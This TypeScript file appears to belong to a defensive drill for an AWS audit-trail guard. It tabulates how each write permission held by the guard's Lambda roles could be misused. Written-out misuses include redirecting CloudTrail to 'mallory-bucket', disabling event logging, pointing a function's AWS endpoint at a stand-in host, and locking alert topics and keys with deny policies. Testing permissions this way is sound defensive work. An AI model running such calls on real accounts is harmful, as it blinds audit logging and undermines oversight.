import type { Clients } from '../../local/drill/clients.ts';
import { AUDIT_TRAIL } from '../../local/drill/estate.ts';
import type { Grant, GrantedRight } from '../../local/proofs/rights/granted-rights.ts';

/** What a right may be used on, and by which function's role. */
export interface Place {
  /** Name of the stack's resource: the last part of its ARN. */
  readonly name: string;
  readonly arn: string;
}

/** Uses a right as badly as it can be, in one call. */
type Misuse = (thief: Clients, place: Place) => Promise<unknown>;

/** Which rights a row speaks of, and how they are misused; or why no use of them can silence a function. */
export type Row = readonly [action: RegExp, resource: RegExp, misuse: Misuse | string];

const STACK = 'trailkeeper-drill';
const HERS = 'arn:aws:kms:us-east-1:123456789012:key/0f0f0f0f-0000-4000-8000-00000000000f';
const NOTHING = '{"source":["nothing"]}';
const DENY_ALL = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Deny', Principal: '*', Action: '*', Resource: '*' }],
});
const DENIES_ALL = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Deny', Action: '*', Resource: '*' }],
});
const ALERTS = `arn:aws:sns:us-east-1:123456789012:${STACK}-alerts`;
/** Were all denied to all, nobody could open the topic again, and only a second way would tell: SECURITY.md. */
const CLOSED = DENY_ALL.replace('"Action":"*"', '"Action":"sns:Publish"').replace(
  '"Resource":"*"',
  `"Resource":"${ALERTS}"`,
);
const urlOf = (queue: string) => `https://sqs.us-east-1.amazonaws.com/123456789012/${STACK}-${queue}`;
const roleOfTell = async ({ lambda }: Clients) =>
  (await lambda.getFunctionConfiguration({ FunctionName: `${STACK}-tell` })).Role;
const source = async ({ lambda }: Clients) =>
  (await lambda.listEventSourceMappings({ FunctionName: `${STACK}-tell` })).EventSourceMappings?.[0];

const IS_A_TRAIL = 'trails are compared by heal and by watch alike, whoever changed them: struck once';
const ADDS = 'adds something, and takes nothing from a function';
const GIVES_BACK = 'gives back, and takes nothing';
const OF_THE_FILES = 'log files go through it, and no function does: both still hear, look and tell';
const OF_THE_PEOPLE = 'people look at it, and no function does';
const OF_ANOTHER_CALL = 'IAM asks for it by the way of another call of this table';

/**
 * Every right that changes anything and that the role of a function has: the first row that fits counts. What is a text is not struck.
 */
export const MISUSES: readonly Row[] = [
  [/^cloudtrail:StartLogging$/, /./, GIVES_BACK],
  [/^cloudtrail:(CreateTrail|AddTags)$/, /./, ADDS],
  [
    /^cloudtrail:UpdateTrail$/,
    RegExp(`/${AUDIT_TRAIL}$`),
    ({ cloudTrail }) => cloudTrail.updateTrail({ Name: AUDIT_TRAIL, S3BucketName: 'mallory-bucket' }),
  ],
  [
    /^cloudtrail:PutEventSelectors$/,
    RegExp(`/${AUDIT_TRAIL}$`),
    ({ cloudTrail }) =>
      cloudTrail.putEventSelectors({
        TrailName: AUDIT_TRAIL,
        EventSelectors: [{ IncludeManagementEvents: false, ReadWriteType: 'ReadOnly' }],
      }),
  ],
  [/^cloudtrail:/, /./, IS_A_TRAIL],
  [/^iam:PassRole$/, /./, OF_ANOTHER_CALL],

  [
    /^lambda:UpdateFunctionConfiguration$/,
    /-watch$/,
    async (thief, { name }) =>
      thief.lambda.updateFunctionConfiguration({
        FunctionName: name,
        Handler: 'nothing.handler',
        Timeout: 1,
        Environment: { Variables: { MODE: 'monitor', AWS_ENDPOINT_URL: 'https://192.0.2.66' } },
        Role: await roleOfTell(thief),
      }),
  ],
  [
    /^lambda:UpdateFunctionConfiguration$/,
    /./,
    ({ lambda }, { name }) =>
      lambda.updateFunctionConfiguration({
        FunctionName: name,
        Handler: 'nothing.handler',
        Timeout: 1,
        Environment: { Variables: { MODE: 'monitor', AWS_ENDPOINT_URL: 'https://192.0.2.66' } },
      }),
  ],
  [/^lambda:DeleteFunctionConcurrency$/, /./, GIVES_BACK],
  [
    /^lambda:PutFunctionEventInvokeConfig$/,
    /./,
    ({ lambda }, { name }) =>
      lambda.putFunctionEventInvokeConfig({
        FunctionName: name,
        MaximumRetryAttempts: 0,
        MaximumEventAgeInSeconds: 60,
      }),
  ],
  [
    /^lambda:AddPermission$/,
    /./,
    ({ lambda }, { name }) =>
      lambda.addPermission({
        FunctionName: name,
        StatementId: 'hers',
        Action: 'lambda:InvokeFunction',
        Principal: '111122223333',
      }),
  ],
  [/^lambda:RemovePermission$/, /-tell$/, 'tell is woken by its queue, which needs no permission'],
  [
    /^lambda:RemovePermission$/,
    /./,
    async ({ lambda }, { name }) => {
      const { Policy = '{}' } = await lambda.getPolicy({ FunctionName: name });
      const { Statement = [] } = JSON.parse(Policy) as { Statement?: { Sid: string }[] };
      // All of them: more than one call may do.
      for (const { Sid } of Statement)
        await lambda.removePermission({ FunctionName: name, StatementId: Sid });
    },
  ],
  [
    /^lambda:UpdateEventSourceMapping$/,
    /./,
    async (thief) =>
      thief.lambda.updateEventSourceMapping({
        UUID: (await source(thief))?.UUID,
        Enabled: false,
        FilterCriteria: { Filters: [{ Pattern: '{"body":["nothing"]}' }] },
      }),
  ],
  [/^lambda:CreateEventSourceMapping$/, /./, ADDS],
  [
    /^scheduler:UpdateSchedule$/,
    /./,
    async ({ scheduler }, { name }) => {
      const { Target, FlexibleTimeWindow } = await scheduler.getSchedule({ Name: name });
      await scheduler.updateSchedule({
        Name: name,
        ScheduleExpression: 'rate(30 days)',
        ...{ FlexibleTimeWindow, Target, State: 'DISABLED' },
      });
    },
  ],
  [/^scheduler:CreateSchedule$/, /./, ADDS],
  [
    /^sqs:SendMessage$/,
    /passes\.fifo$/,
    ({ sqs }) =>
      sqs.sendMessage({
        QueueUrl: urlOf('passes.fifo'),
        MessageBody: 'no pass at all',
        MessageGroupId: AUDIT_TRAIL,
        MessageDeduplicationId: 'hers',
      }),
  ],
  [/^sqs:SendMessage$/, /./, ADDS],
  [/^logs:/, /./, OF_THE_PEOPLE],

  [
    /^sns:SetTopicAttributes$/,
    /drill-\*$/,
    ({ sns }) =>
      sns.setTopicAttributes({
        TopicArn: ALERTS,
        AttributeName: 'Policy',
        AttributeValue: CLOSED,
      }),
  ],
  [/^sns:SetTopicAttributes$/, /./, OF_THE_FILES],
  [/^sns:(CreateTopic|Subscribe)$/, /./, ADDS],
  [
    /^sns:SetSubscriptionAttributes$/,
    /./,
    async ({ sns }) => {
      const { Subscriptions = [] } = await sns.listSubscriptionsByTopic({ TopicArn: ALERTS });
      await sns.setSubscriptionAttributes({
        SubscriptionArn: Subscriptions[0]?.SubscriptionArn,
        AttributeName: 'FilterPolicy',
        AttributeValue: '{"severity":["nothing"]}',
      });
    },
  ],
  [/^kms:/, /key\/(0b1c2d3e|\*)|alias\//, OF_THE_FILES],
  [/^kms:(EnableKey|CancelKeyDeletion)$/, /./, GIVES_BACK],
  [
    /^kms:PutKeyPolicy$/,
    /./,
    // One that does not even let watch read it closes the topic for good, like one of the topic itself: SECURITY.md.
    ({ kms }, { arn }) =>
      kms.putKeyPolicy({
        KeyId: arn,
        Policy: JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Principal: { AWS: 'arn:aws:iam::123456789012:root' },
              Action: 'kms:*',
              Resource: '*',
            },
            { Effect: 'Deny', Principal: '*', Action: ['kms:GenerateDataKey', 'kms:Decrypt'], Resource: '*' },
          ],
        }),
      }),
  ],
  [/^kms:RevokeGrant$/, /./, 'the alerts go by the policy of their key, which has no grants'],

  [/^iam:/, /CloudTrailToCloudWatchLogs$/, OF_THE_FILES],
  [
    /^iam:UpdateAssumeRolePolicy$/,
    /./,
    ({ iam }, { name }) =>
      iam.updateAssumeRolePolicy({
        RoleName: name,
        PolicyDocument: JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            { Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' },
          ],
        }),
      }),
  ],
  [
    /^iam:PutRolePolicy$/,
    /./,
    ({ iam }, { name }) =>
      iam.putRolePolicy({ RoleName: name, PolicyName: 'hers', PolicyDocument: DENIES_ALL }),
  ],
  [
    /^iam:DeleteRolePolicy$/,
    /./,
    ({ iam }, { name }) =>
      iam.deleteRolePolicy({ RoleName: name, PolicyName: name.includes('Heal') ? 'heal' : 'tell' }),
  ],
  [/^iam:DetachRolePolicy$/, /./, 'the template attaches no policy to the roles of heal and tell'],
  [/^iam:DeleteRolePermissionsBoundary$/, /./, GIVES_BACK],
  [/^s3:/, /./, OF_THE_FILES],
  [/^events:EnableRule$/, /./, GIVES_BACK],
  [
    /^events:PutRule$/,
    /./,
    ({ events }) =>
      events.putRule({ Name: `${STACK}-heal-rule-1`, EventPattern: NOTHING, State: 'DISABLED' }),
  ],
  [
    /^events:PutTargets$/,
    /./,
    async ({ events }) => {
      const Rule = `${STACK}-heal-rule-1`;
      const { Targets = [] } = await events.listTargetsByRule({ Rule });
      await events.putTargets({ Rule, Targets: Targets.map((target) => ({ ...target, Input: '{}' })) });
    },
  ],
  [
    /^events:RemoveTargets$/,
    /./,
    async ({ events }) => {
      const Rule = `${STACK}-heal-rule-1`;
      const { Targets = [] } = await events.listTargetsByRule({ Rule });
      await events.removeTargets({ Rule, Ids: Targets.flatMap(({ Id }) => Id ?? []) });
    },
  ],
  [
    /^sqs:SetQueueAttributes$/,
    /./,
    ({ sqs }) =>
      sqs.setQueueAttributes({
        QueueUrl: urlOf('passes.fifo'),
        Attributes: { MessageRetentionPeriod: '60', VisibilityTimeout: '43200', KmsMasterKeyId: HERS },
      }),
  ],
  [/^sqs:CreateQueue$/, /./, ADDS],
  [/^cloudwatch:/, /./, OF_THE_PEOPLE],
  [
    /^dynamodb:UpdateTable$/,
    /./,
    ({ dynamodb }, { name }) => dynamodb.updateTable({ TableName: name, DeletionProtectionEnabled: false }),
  ],
  [
    /^dynamodb:UpdateContinuousBackups$/,
    /./,
    ({ dynamodb }, { name }) =>
      dynamodb.updateContinuousBackups({
        TableName: name,
        PointInTimeRecoverySpecification: { PointInTimeRecoveryEnabled: false },
      }),
  ],
  [
    /^dynamodb:UpdateTimeToLive$/,
    /./,
    ({ dynamodb }, { name }) =>
      dynamodb.updateTimeToLive({
        TableName: name,
        TimeToLiveSpecification: { Enabled: false, AttributeName: 'expires' },
      }),
  ],
  [
    /^dynamodb:PutResourcePolicy$/,
    /./,
    ({ dynamodb }, { arn }) =>
      dynamodb.putResourcePolicy({
        ResourceArn: arn,
        Policy: DENY_ALL,
        ConfirmRemoveSelfResourceAccess: true,
      }),
  ],
  // What tell may do reaches neither heal nor watch.
  [/^dynamodb:(PutItem|DeleteItem)$/, /./, 'of tell alone: what was told, and no more, is in the ledger'],
  [/^sns:Publish$/, /./, ADDS],
  [/^kms:(GenerateDataKey|Decrypt)$/, /./, 'changes nothing'],
  [/^sqs:(ReceiveMessage|DeleteMessage)$/, /./, 'of tell alone: it may eat what heal and watch hand over'],
  [/^lambda:InvokeFunction$/, /-watch$/, 'wakes watch, and no more'],
];

/** Logical ids of all roles of the guard. */
export const ROLES = ['HealRole', 'WatchRole', 'TellRole', 'WatchSweepRole'];

const READS = /:(?:(?:Get|List|Describe|Lookup|BatchGet)[A-Z]|Query$)/;

/** The rights that do more than read. */
export function changing({ rights }: Grant): GrantedRight[] {
  return rights.filter(({ action }) => !READS.test(action));
}

/** What the table says of a right. */
export function rowOf({ action, resource }: GrantedRight): Row | undefined {
  return MISUSES.find(([actions, resources]) => actions.test(action) && resources.test(resource));
}
